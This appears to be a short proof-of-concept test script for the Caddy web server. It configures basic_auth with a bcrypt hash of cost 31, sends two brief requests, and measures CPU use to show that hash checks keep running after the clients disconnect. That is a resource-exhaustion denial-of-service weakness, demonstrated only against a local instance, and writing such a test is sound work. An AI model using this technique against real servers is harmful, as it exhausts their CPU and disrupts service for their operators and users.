#!/bin/sh
# A password hash of cost 31 is judged fine (judge.rs: `providers http_basic`, whatever is in it). Each request for it holds a core for hours, when its
# client has long gone; so does `argon2id` with as much memory as the hash says. Usage: CADDY=/path/to/caddy tests/attack17-hash.sh
# Output here (2.11.7, two cores): "cpu ticks in 3 s, after both clients have gone: 165" of 300 possible by a second of a shared machine, and it goes on.
dir=$(mktemp -d) && cd "$dir" || exit 1
cat > Caddyfile <<'C'
{
    admin off
}
http://x.example.com:2205 {
    basic_auth {
        bob $2a$31$abcdefghijklmnopqrstuuAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA
    }
    respond a
}
C
XDG_DATA_HOME=$dir XDG_CONFIG_HOME=$dir "${CADDY:-caddy}" run --adapter caddyfile --config Caddyfile 2>log &
pid=$!
sleep 2
for _ in 1 2; do curl -s -m 1 -u bob:x -H 'Host: x.example.com' http://127.0.0.1:2205/; done
ticks() { awk '{ print $14 + $15 }' /proc/$pid/stat; }
before=$(ticks); sleep 3
echo "cpu ticks in 3 s, after both clients have gone: $(($(ticks) - before))"
kill -9 $pid
rm -r "$dir"
